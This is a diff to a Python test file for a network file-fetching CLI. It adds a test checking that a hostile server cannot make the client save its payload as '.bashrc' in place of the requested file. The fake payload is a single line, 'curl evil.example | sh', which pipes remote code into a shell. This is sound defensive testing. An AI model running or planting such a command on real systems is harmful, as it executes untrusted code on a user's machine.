@@ -17,6 +17,8 @@ from pathlib import Path
 import pytest
 
 from netcore.cli.commands import EXIT_NET, EXIT_OK, EXIT_PROTOCOL, EXIT_USAGE
+from netcore.protocols.filehdr import encode_header
+from tests.hostile.support import FakeTcpServer, play_and_close
 from tests.netcore.support import NetcoreProcess, cli
 
 RUN_TIMEOUT = 30
@@ -73,12 +75,29 @@ def fetch_json(port: int, name: str, out: Path, *extra: str) -> dict:
     return json.loads(proc.stdout)
 
 
+def test_the_server_cannot_choose_the_saved_name(out):
+    """A server answering .bashrc for holiday.jpg: holiday.jpg is saved, the server's name is shown."""
+    body = b"curl evil.example | sh\n"
+    header = {"file_name": ".bashrc", "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
+    server = FakeTcpServer()
+    try:
+        server.expect(play_and_close([encode_header(header) + body], len("holiday.jpg")))
+        proc = netcore("fetch", "holiday.jpg", "--port", str(server.port), "--out", str(out))
+        server.wait_done()
+    finally:
+        server.close()
+    assert proc.returncode == EXIT_OK, proc.stderr
+    assert "the server calls it '.bashrc' (not used: saved as asked)" in proc.stdout
+    assert os.listdir(out) == ["holiday.jpg"]
+    assert (out / "holiday.jpg").read_bytes() == body
+
+
 def test_file_server_on_port_0_and_fetch_json(file_server, served, out):
     server = file_server(served, "--quiet")
     assert server.port > 0
     report = fetch_json(server.port, "hello", out)
     data = (served / "hello.png").read_bytes()
-    assert report["file_name"] == "hello.png"
+    assert (report["file_name"], report["server_name"]) == ("hello.png", "hello.png")
     assert Path(report["path"]) == out / "hello.png"
     assert (report["size"], report["md5"]) == (len(data), hashlib.md5(data).hexdigest())
     assert report["verified"] is True
